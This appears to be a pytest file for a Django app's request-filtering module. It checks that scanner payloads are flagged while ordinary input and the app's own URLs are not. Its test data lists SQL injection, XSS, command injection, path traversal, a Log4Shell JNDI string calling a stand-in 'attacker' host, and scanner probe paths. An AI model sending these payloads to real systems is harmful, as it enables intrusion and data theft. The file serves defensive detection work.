"""The patterns are specific: no address Vouch has looks like an attack, and the payloads
scanners send do."""

from __future__ import annotations

import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver

from vouch.shield import patterns

SAMPLES = {
    "int": "42",
    "str": "AbC-123_xyz",
    "uuid": "3f2c0a5e-9b1d-4c2e-8a7f-1b2c3d4e5f60",
    "slug": "a-slug",
    "path": "a/b",
}


def _paths(resolver=None, prefix="") -> list[str]:
    resolver = resolver or get_resolver()
    found = []
    for entry in resolver.url_patterns:
        route = str(entry.pattern)
        route = re.sub(r"<(?:(\w+):)?\w+>", lambda m: SAMPLES.get(m.group(1) or "str", "x"), route)
        route = route.lstrip("^").rstrip("$").replace("\\Z", "")
        if isinstance(entry, URLResolver):
            found += _paths(entry, prefix + route)
        elif isinstance(entry, URLPattern):
            found.append("/" + prefix + route)
    return found


def test_no_vouch_address_looks_like_an_attack():
    paths = [p for p in _paths() if "(" not in p]  # a few regex routes of libraries
    assert len(paths) > 100
    flagged = [p for p in paths if patterns.scanner_path(p) or patterns.hostile_input(p)]
    assert flagged == []


@pytest.mark.parametrize(
    "text",
    ["O'Brien", "Smith & Jones", "Zoë Müller", "李小龙", "50% off; (really)", "C++ / C#", "--", "a<b", "don't"],
)
def test_what_people_type_is_not_hostile(text):
    from urllib.parse import quote_plus

    assert patterns.hostile_input(f"q={quote_plus(text)}") is None


@pytest.mark.parametrize(
    "payload,point",
    [
        ("q=1' or '1'='1", "injection"),
        ("q=1%27%20UNION%20SELECT%20NULL--", "injection"),
        ("id=1 and 1=1 --", "injection"),
        ("q=<img src=x onerror=alert(1)>", "injection"),
        ("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "injection"),
        ("q=;sleep(10)", "injection"),
        ("q=$(whoami)", "injection"),
        ("file=../../../../etc/passwd", "traversal"),
        ("file=..%2F..%2F..%2Fwindows%2Fwin.ini", "traversal"),
        ("q=${jndi:ldap://attacker/a}", "injection"),
    ],
)
def test_scanner_payloads_are_recognised(payload, point):
    assert patterns.hostile_input(payload) == point


def test_scanner_agents_and_paths():
    assert patterns.scanner_agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
    assert patterns.scanner_agent("Wapiti/3.2.0")
    assert not patterns.scanner_agent("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Safari/604.1")
    assert not patterns.scanner_agent("curl/8.5.0")
    for path in ("/wp-login.php", "/.git/HEAD", "/.env", "/phpmyadmin/", "/actuator/health", "/backup.sql"):
        assert patterns.scanner_path(path), path


def test_headers_are_read_for_payloads_but_browsers_raise_nothing():
    assert patterns.hostile_header("${jndi:ldap://attacker/a}") == "injection"
    assert patterns.hostile_header("Mozilla/5.0' AND SLEEP(5)-- ") == "injection"
    assert patterns.hostile_header("https://x.example/?p=../../../../etc/passwd") == "traversal"
    for agent in (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "https://vouch.example/requests/?q=O%27Brien&status=open",
    ):
        assert patterns.hostile_header(agent) is None
